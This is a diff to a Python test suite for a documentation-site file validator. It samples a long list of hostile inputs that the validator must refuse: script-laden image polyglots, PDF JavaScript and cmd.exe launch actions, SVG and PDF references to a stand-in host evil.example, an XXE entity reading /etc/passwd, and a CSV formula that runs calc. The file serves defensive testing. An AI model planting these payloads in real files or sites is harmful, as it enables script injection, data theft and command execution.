@@ -64,106 +64,115 @@ def codes(path: str, data: bytes | str) -> set[str]:
 
 @pytest.mark.parametrize(
     ("path", "data"),
-    [
-        ("docs/assets/x.md", "---\ntitle: x\n---\n<script>alert(8)</script>"),
-        ("docs/assets/x.html", "<script>alert(1)</script>"),
-        ("docs/assets/x.js", "alert(1)"),
-        ("docs/assets/x.PNG", PNG),
-        ("docs/assets/x", PNG),
-        ("docs/assets/x.png", "<script>alert(1)</script>"),
-        ("docs/assets/x.png", PNG[:8] + b"\0" * 1024 * 1024),
-        ("docs/assets/x.png", PNG[:8] + b"<script>alert(1)</script>"),
-        ("docs/assets/x.png", PNG + b"<script>alert(1)</script>"),
-        ("docs/assets/x.png", PNG[:8]),
-        ("docs/assets/x.gif", b"GIF89a<script>alert(1)</script>"),
-        ("docs/assets/x.jpg", b"\xff\xd8\xff\xd9<script>alert(1)</script>"),
-        ("docs/assets/x.webp", b"RIFF\x04\0\0\0WEBP<script>alert(1)</script>"),
-        ("docs/assets/x.avif", b"\0\0\0\x0cftypavif<script>alert(1)</script>"),
-        ("docs/assets/x.woff2", b"wOF2\0\1\0\0\0\0\0\x0c<script>alert(1)</script>"),
-        ("docs/assets/x.pdf", b"%PDF-1.7 1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>> %%EOF"),
-        ("docs/assets/x.pdf", b"%PDF-1.7 <</S/Launch/F(cmd.exe)>> %%EOF"),
-        ("docs/assets/x.pdf", b"%PDF-1.7 <</OpenAction<</S/J#61vaScript/#4aS(app.alert(1))>>>> %%EOF"),
-        ("docs/assets/x.pdf", b"%PDF-1.7 <</S /#4C#61unch /F(cmd.exe)>> %%EOF"),
-        ("docs/assets/x.pdf", b"%PDF-1.7 <</S/SubmitForm/F(https://evil.example)>> %%EOF"),
-        ("docs/assets/x.pdf", b"%PDF-1.7 <</AcroForm<</XFA 3 0 R>>>> %%EOF"),
-        ("docs/assets/x.pdf", b"%PDF-1.7 <</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream %%EOF"),
-        *(
-            ("docs/assets/x.pdf", b"%PDF-1.7 1 0 obj<<" + inside + b" %%EOF")
-            for inside in (
-                b"/Subtype/FileAttachment/FS 2 0 R>>",
-                b"/Subtype/Movie/Movie<</F(https://evil.example/x.avi)>>>>",
-                b"/S/Sound/Sound 3 0 R>>",
-                b"/S/Rendition/R 3 0 R>>",
-                b"/S /Thread/F(\\\\evil.example\\x)>>",
-                b"/F<</FS/URL/F(https://evil.example/x)>>>>",
-            )
-        ),
-        ("docs/assets/x.pdf", _pdf_with(b"/Type/ObjStm/N 1/First 4", b"1 0 <</S/JavaScript/JS(app.alert(1))>>")),
-        ("docs/assets/x.pdf", _pdf_with(b"/Type/Obj#53tm/N 1", b"1 0 <</S/J#61vaScript/J#53(app.alert(1))>>")),
-        ("docs/assets/x.pdf", _pdf_with(b"/N 1/First 4", b"1 0 <</S/JavaScript/JS(app.alert(1))>>")),
-        ("docs/assets/x.pdf", _pdf_with(b"/Type/ObjStm/N 1/First 4", b" " * 40_000_000)),
-        ("docs/assets/x.pdf", b"%PDF-1.7 1 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\n\x80\x0b\nendstream %%EOF"),
-        ("docs/assets/stylesheets/site/x.svg", SVG.format("<title>} html { display: none } x {</title>")),
-        ("docs/assets/stylesheets/site/x.txt", "html { display: none }"),
-        ("docs/assets/javascripts/x.png", PNG),
-        ("docs/assets/javascripts/evil.js", "alert(1)"),
-        ("docs/assets/javascripts/search/evil.js", "alert(1)"),
-        ("docs/assets/javascripts/bundle.00000000.min.js", "alert(1)"),
-        ("docs/assets/stylesheets/evil.css", "html { display: none }"),
-        ("docs/assets/stylesheets/site/99-evil.css", "html { display: none }"),
-        ("docs/model/kwaad.ods", b"MZ\x90\0"),
-        ("docs/model/kwaad.csv", "=cmd|' /C calc'!A0"),
-        ("docs/model/sjabloon-case.txt", b"MZ\x90\0"),
-        ("docs/model/case.schema.json", "x" * 200_000),
-        ("docs/assets/x.pdf", "<html>"),
-        *(
-            ("docs/assets/x.png", _with_text(text))
-            for text in (b"<!DOCTYPE html><img src=x>", b"<!doctype>", b"<BODY/x>")
-        ),
-        ("docs/assets/x.svg", "<html><script>alert(1)</script></html>"),
-        ("docs/assets/x.svg", "tekst"),
-        ("docs/assets/javascripts/x.html", "<script>alert(1)</script>"),
-        ("docs/model/x.html", "<script>alert(1)</script>"),
-        ("docs/assets/x.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.domain)</script></svg>"),
-        *(
-            ("docs/assets/x.svg", SVG.format(inside))
-            for inside in (
-                "<g onload='alert(1)'/>",
-                "<a href='javascript:alert(1)'><text>x</text></a>",
-                "<use href='https://evil.example/x.svg#a'/>",
-                "<use xlink:href='//evil.example/x.svg#a'/>",
-                "<image href='https://evil.example/x.png'/>",
-                "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject>",
-                "<set attributeName='href' to='javascript:alert(1)'/>",
-                "<animate attributeName='href' values='javascript:alert(1)'/>",
-                "<style>@import '//evil.example/x.css'</style>",
-                "<g style='fill: url(//evil.example/x)'/>",
-                "<g fill='url(https://evil.example/x)'/>",
-                """<g style='background-image:image-set("https://evil.example/x.png" 1x)'/>""",
-                """<g style='background:-webkit-image-set("https://evil.example/x.png" 1x)'/>""",
-                """<g style='cursor:image-set("https://evil.example/x.png" 1x), auto'/>""",
-                """<g mask='image-set("https://evil.example/x.png" 1x)'/>""",
-                "<g style='fill:src(\"https://evil.example/x.png\")'/>",
-                "<g fill='URL( //evil.example/x )'/>",
-                "<g xml:base='https://evil.example/'><use href='#a'/></g>",
-                "<g id='a'><use href='#a'/></g>",
-                "<g id='a'><path mask='url(#a)' d='M0 0'/></g>",
-                _BOMB,
-                "<g>" * 3000 + "</g>" * 3000,
-                "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
-                "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
-            )
-        ),
-        ("docs/assets/x.svg", f"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>{SVG.format('&a;')}"),
-        ("docs/assets/x.svg", f"<?xml-stylesheet href='//evil.example/x.css'?>{SVG.format('')}"),
-        *(
-            ("docs/assets/x.svg", _ENCODED.format(name, more).encode(name))
-            for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32-le", "iso-8859-1", "cp1252")
-            for more in ("", _DOCTYPE, "<?xml-stylesheet href='//evil.example/x.css'?>")
-        ),
-        ("docs/assets/x.svg", _ENCODED.format("iso-2022-jp", "")),
-        ("docs/assets/x.svg", _ENCODED.format("utf-7", "")),
-    ],
+    few(
+        [
+            ("docs/assets/x.md", "---\ntitle: x\n---\n<script>alert(8)</script>"),
+            ("docs/assets/x.html", "<script>alert(1)</script>"),
+            ("docs/assets/x.js", "alert(1)"),
+            ("docs/assets/x.PNG", PNG),
+            ("docs/assets/x", PNG),
+            ("docs/assets/x.png", "<script>alert(1)</script>"),
+            ("docs/assets/x.png", PNG[:8] + b"\0" * 1024 * 1024),
+            ("docs/assets/x.png", PNG[:8] + b"<script>alert(1)</script>"),
+            ("docs/assets/x.png", PNG + b"<script>alert(1)</script>"),
+            ("docs/assets/x.png", PNG[:8]),
+            ("docs/assets/x.gif", b"GIF89a<script>alert(1)</script>"),
+            ("docs/assets/x.jpg", b"\xff\xd8\xff\xd9<script>alert(1)</script>"),
+            ("docs/assets/x.webp", b"RIFF\x04\0\0\0WEBP<script>alert(1)</script>"),
+            ("docs/assets/x.avif", b"\0\0\0\x0cftypavif<script>alert(1)</script>"),
+            ("docs/assets/x.woff2", b"wOF2\0\1\0\0\0\0\0\x0c<script>alert(1)</script>"),
+            ("docs/assets/x.pdf", b"%PDF-1.7 1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>> %%EOF"),
+            ("docs/assets/x.pdf", b"%PDF-1.7 <</S/Launch/F(cmd.exe)>> %%EOF"),
+            ("docs/assets/x.pdf", b"%PDF-1.7 <</OpenAction<</S/J#61vaScript/#4aS(app.alert(1))>>>> %%EOF"),
+            ("docs/assets/x.pdf", b"%PDF-1.7 <</S /#4C#61unch /F(cmd.exe)>> %%EOF"),
+            ("docs/assets/x.pdf", b"%PDF-1.7 <</S/SubmitForm/F(https://evil.example)>> %%EOF"),
+            ("docs/assets/x.pdf", b"%PDF-1.7 <</AcroForm<</XFA 3 0 R>>>> %%EOF"),
+            ("docs/assets/x.pdf", b"%PDF-1.7 <</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream %%EOF"),
+            *(
+                ("docs/assets/x.pdf", b"%PDF-1.7 1 0 obj<<" + inside + b" %%EOF")
+                for inside in (
+                    b"/Subtype/FileAttachment/FS 2 0 R>>",
+                    b"/Subtype/Movie/Movie<</F(https://evil.example/x.avi)>>>>",
+                    b"/S/Sound/Sound 3 0 R>>",
+                    b"/S/Rendition/R 3 0 R>>",
+                    b"/S /Thread/F(\\\\evil.example\\x)>>",
+                    b"/F<</FS/URL/F(https://evil.example/x)>>>>",
+                )
+            ),
+            ("docs/assets/x.pdf", _pdf_with(b"/Type/ObjStm/N 1/First 4", b"1 0 <</S/JavaScript/JS(app.alert(1))>>")),
+            ("docs/assets/x.pdf", _pdf_with(b"/Type/Obj#53tm/N 1", b"1 0 <</S/J#61vaScript/J#53(app.alert(1))>>")),
+            ("docs/assets/x.pdf", _pdf_with(b"/N 1/First 4", b"1 0 <</S/JavaScript/JS(app.alert(1))>>")),
+            ("docs/assets/x.pdf", _pdf_with(b"/Type/ObjStm/N 1/First 4", b" " * 40_000_000)),
+            (
+                "docs/assets/x.pdf",
+                b"%PDF-1.7 1 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\n\x80\x0b\nendstream %%EOF",
+            ),
+            ("docs/assets/stylesheets/site/x.svg", SVG.format("<title>} html { display: none } x {</title>")),
+            ("docs/assets/stylesheets/site/x.txt", "html { display: none }"),
+            ("docs/assets/javascripts/x.png", PNG),
+            ("docs/assets/javascripts/evil.js", "alert(1)"),
+            ("docs/assets/javascripts/search/evil.js", "alert(1)"),
+            ("docs/assets/javascripts/bundle.00000000.min.js", "alert(1)"),
+            ("docs/assets/stylesheets/evil.css", "html { display: none }"),
+            ("docs/assets/stylesheets/site/99-evil.css", "html { display: none }"),
+            ("docs/model/kwaad.ods", b"MZ\x90\0"),
+            ("docs/model/kwaad.csv", "=cmd|' /C calc'!A0"),
+            ("docs/model/sjabloon-case.txt", b"MZ\x90\0"),
+            ("docs/model/case.schema.json", "x" * 200_000),
+            ("docs/assets/x.pdf", "<html>"),
+            *(
+                ("docs/assets/x.png", _with_text(text))
+                for text in (b"<!DOCTYPE html><img src=x>", b"<!doctype>", b"<BODY/x>")
+            ),
+            ("docs/assets/x.svg", "<html><script>alert(1)</script></html>"),
+            ("docs/assets/x.svg", "tekst"),
+            ("docs/assets/javascripts/x.html", "<script>alert(1)</script>"),
+            ("docs/model/x.html", "<script>alert(1)</script>"),
+            (
+                "docs/assets/x.svg",
+                "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.domain)</script></svg>",
+            ),
+            *(
+                ("docs/assets/x.svg", SVG.format(inside))
+                for inside in (
+                    "<g onload='alert(1)'/>",
+                    "<a href='javascript:alert(1)'><text>x</text></a>",
+                    "<use href='https://evil.example/x.svg#a'/>",
+                    "<use xlink:href='//evil.example/x.svg#a'/>",
+                    "<image href='https://evil.example/x.png'/>",
+                    "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject>",
+                    "<set attributeName='href' to='javascript:alert(1)'/>",
+                    "<animate attributeName='href' values='javascript:alert(1)'/>",
+                    "<style>@import '//evil.example/x.css'</style>",
+                    "<g style='fill: url(//evil.example/x)'/>",
+                    "<g fill='url(https://evil.example/x)'/>",
+                    """<g style='background-image:image-set("https://evil.example/x.png" 1x)'/>""",
+                    """<g style='background:-webkit-image-set("https://evil.example/x.png" 1x)'/>""",
+                    """<g style='cursor:image-set("https://evil.example/x.png" 1x), auto'/>""",
+                    """<g mask='image-set("https://evil.example/x.png" 1x)'/>""",
+                    "<g style='fill:src(\"https://evil.example/x.png\")'/>",
+                    "<g fill='URL( //evil.example/x )'/>",
+                    "<g xml:base='https://evil.example/'><use href='#a'/></g>",
+                    "<g id='a'><use href='#a'/></g>",
+                    "<g id='a'><path mask='url(#a)' d='M0 0'/></g>",
+                    _BOMB,
+                    "<g>" * 3000 + "</g>" * 3000,
+                    "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
+                    "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
+                )
+            ),
+            ("docs/assets/x.svg", f"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>{SVG.format('&a;')}"),
+            ("docs/assets/x.svg", f"<?xml-stylesheet href='//evil.example/x.css'?>{SVG.format('')}"),
+            *(
+                ("docs/assets/x.svg", _ENCODED.format(name, more).encode(name))
+                for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32-le", "iso-8859-1", "cp1252")
+                for more in ("", _DOCTYPE, "<?xml-stylesheet href='//evil.example/x.css'?>")
+            ),
+            ("docs/assets/x.svg", _ENCODED.format("iso-2022-jp", "")),
+            ("docs/assets/x.svg", _ENCODED.format("utf-7", "")),
+        ],
+        daily=34,
+    ),
 )
 def test_only_known_files_that_do_nothing_go_to_the_site(path: str, data: bytes | str) -> None:
     assert codes(path, data) == {"KB141"}
@@ -348,7 +357,7 @@ def test_packed_objects_are_packed_in_one_way_only(filters: bytes, more: bytes) 
         ),
     ],
 )
-@pytest.mark.parametrize("key", [b"/URI", b"/URI ", b"/#55RI", b"/URI<</Base"])
+@pytest.mark.parametrize("key", few([b"/URI", b"/URI ", b"/#55RI", b"/URI<</Base"], daily=2))
 def test_a_link_in_a_document_goes_to_the_web_or_to_mail(key: bytes, address: bytes) -> None:
     end = b">>" if b"Base" in key else b""
     for data in (
@@ -452,7 +461,7 @@ def test_no_document_that_opens_somewhere_keeps_anybody_waiting(pump: bytes) -> 
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize("pump", [b"#41", b"/OpenAction 8 0 R ", b"8 0 ", b"9", b"8 0 obj null "])
+@pytest.mark.parametrize("pump", few([b"#41", b"/OpenAction 8 0 R ", b"8 0 ", b"9", b"8 0 obj null "], daily=2))
 def test_a_small_document_that_unpacks_to_much_work_is_refused(pump: bytes) -> None:
     objects = b"8 0 null " if pump == b"#41" else b"8 0 "
     order = b"" if pump == b"#41" else b"/OpenAction 8 0 R"
